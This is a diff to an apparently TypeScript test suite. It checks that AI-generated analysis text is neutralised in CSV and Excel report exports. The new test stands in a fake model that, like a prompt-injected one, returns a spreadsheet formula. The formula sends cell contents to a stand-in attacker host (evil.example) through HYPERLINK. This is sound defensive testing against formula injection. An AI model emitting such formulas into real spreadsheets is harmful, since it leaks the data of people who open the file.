@@ -12,8 +12,9 @@ import type { ByteSink } from '@app/core';
 import { CsvWriter } from '@app/core/report/csv-writer.ts';
 import { XlsxWriter } from '@app/core/report/xlsx-writer.ts';
 import { parseCsv } from '@app/functions/services/risk/csv-text.ts';
+import { startFakeOpenAi, type FakeServer } from '../support/fake-ai.ts';
 import { startTestStack, type TestClient, type TestStack } from '../support/stack.ts';
-import { text } from './pipeline-fixtures.ts';
+import { sm20Csv, text } from './pipeline-fixtures.ts';
 import { startAnalysis, uploadAll, waitForAnalysis } from './pipeline-support.ts';
 
 const HOSTILE = [
@@ -216,6 +217,54 @@ describe('a full analysis with hostile content', () => {
     expect(header).toContain('=EXTRA()');
     expect(rows.slice(1).map((r) => r[header.indexOf('User')])).toEqual([...HOSTILE.map((v) => v.trim()), '=BOB']);
     expect(expectFormulaTextQuoted(wb)).toBeGreaterThanOrEqual(4 * HOSTILE.length + 2);
+  });
+});
+
+describe('AI text in the reports', () => {
+  const AI_TEXT = '=HYPERLINK("http://evil.example/?d="&A2,"Details")';
+  let fake: FakeServer;
+  let stack: TestStack;
+  let result: any;
+
+  beforeAll(async () => {
+    // The model answers every record with a formula, as a prompt-injected model might.
+    fake = await startFakeOpenAi((body) => {
+      const block = String(body.messages[1].content).split('<records>\n')[1]?.split('\n</records>')[0] ?? '[]';
+      const ids = (JSON.parse(block.replace(/\\u003c/g, '<')) as { id: number }[]).map((i) => i.id);
+      return { text: JSON.stringify(ids.map((id) => ({ id, analysis: AI_TEXT }))), inputTokens: 10, outputTokens: 10 };
+    });
+    stack = await startTestStack({ inMemory: true, env: { AI_PROVIDER: 'openai', AI_BASE_URL: fake.url, AI_MODEL: 'local-llm' } });
+    const alice = await stack.signIn(stack.user.email, stack.user.password);
+    const [fileId] = (await uploadAll(alice, [{ name: 'sm20.csv', bytes: text(sm20Csv(24)) }])) as [string];
+    const res = await alice.call('POST', '/analyze', { fileIds: [fileId], aiSettings: { enabled: true, outputColumn: 'AI_Review' } });
+    expect(res.status, res.text).toBe(200);
+    result = await waitForAnalysis(alice, res.json.analysisId);
+    expect(result.status, JSON.stringify(result.error)).toBe('completed');
+    expect(result.ai.annotated).toBeGreaterThan(0);
+  }, 90_000);
+
+  afterAll(async () => {
+    await stack?.stop();
+    await fake?.close();
+  });
+
+  it('neutralises the model output in the CSV and quote-prefixes it in the workbook', async () => {
+    const rows = parseCsv(await (await fetch(result.csvDownloadUrl)).text(), ',');
+    const column = rows[0]!.indexOf('AI_Review');
+    expect(column).toBeGreaterThan(0);
+    const notes = rows.slice(1).map((r) => r[column]).filter(Boolean);
+    expect(notes.length).toBe(result.ai.annotated);
+    expect(new Set(notes)).toEqual(new Set([`'${AI_TEXT}`]));
+
+    const wb = openWorkbook(new Uint8Array(await (await fetch(result.excelDownloadUrl)).arrayBuffer()));
+    const sheet = wb.sheets.find((s) => s.name === 'SM20')!;
+    const xColumn = sheet.rows[0]!.findIndex((c) => c.text === 'AI_Review');
+    const cells = sheet.rows.slice(1).map((r) => r[xColumn]).filter((c) => c && c.text);
+    expect(cells.length).toBe(result.ai.annotated);
+    for (const c of cells) {
+      expect(c!.text).toBe(AI_TEXT);
+      expect(wb.styles[c!.style]?.quotePrefix).toBe(true);
+    }
   });
 });
 
